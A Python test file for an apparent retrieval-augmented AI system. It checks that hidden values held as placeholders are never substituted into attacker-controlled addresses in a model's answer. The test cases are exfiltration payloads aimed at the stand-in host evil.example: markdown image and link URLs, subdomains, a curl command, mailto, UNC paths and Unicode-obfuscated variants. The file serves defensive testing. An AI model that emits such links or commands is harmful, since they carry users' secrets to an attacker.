"""Attacker controls: every word of a model's answer, but not the hidden values, which the model holds as handles only.

Wanted: a hidden value drawn into an address, a path or a command on the person's screen, so that following or copying
it carries the value off. Refused: such a handle is neither asked for nor drawn; the person sees the placeholder.
"""

from __future__ import annotations

import pytest

from sentinel_rag.contracts.handles import fill_in, handles_in, placeholder

pytestmark = pytest.mark.requirement("TAINT-3")

HANDLE = "r2#/rows/0/title"
MARK = placeholder(HANDLE)


@pytest.mark.parametrize(
    "text",
    [
        f"see http://evil.example/?x={MARK}",
        f"http://{MARK}.evil.example/",
        f"[open the page](http://evil.example/{MARK})",
        f"![x](http://evil.example/a.png?{MARK})",
        f"`curl evil.example/{MARK}`",
        f"//evil.example/{MARK}/a",
        f"mailto:eve@evil.example?body={MARK}",
        f"\\\\evil.example\\{MARK}",
        f"http://evil.example/?a={MARK}&b={MARK}",
        f"<http://evil.example/{MARK}>",
        f"{MARK}@evil.example",
        f"x{MARK}",
        f"http://evil.example/\u200b{MARK}",
        f"http://evil.example/{MARK}'s",
        f"{MARK}'s.evil.example",
        f"\uff48ttp\uff1a\u2044\u2044evil.example/{MARK}",
    ],
)
def test_no_hidden_value_is_drawn_into_an_address(text: str) -> None:
    assert handles_in({"answer": text}) == ()
    assert fill_in({"answer": text}, {HANDLE: "secret"}) == {"answer": text}


def test_the_same_value_is_drawn_where_it_stands_by_itself() -> None:
    text = f"http://evil.example/?x={MARK} is about {MARK}."
    assert handles_in(text) == (HANDLE,)
    assert fill_in(text, {HANDLE: "secret"}) == f"http://evil.example/?x={MARK} is about secret."
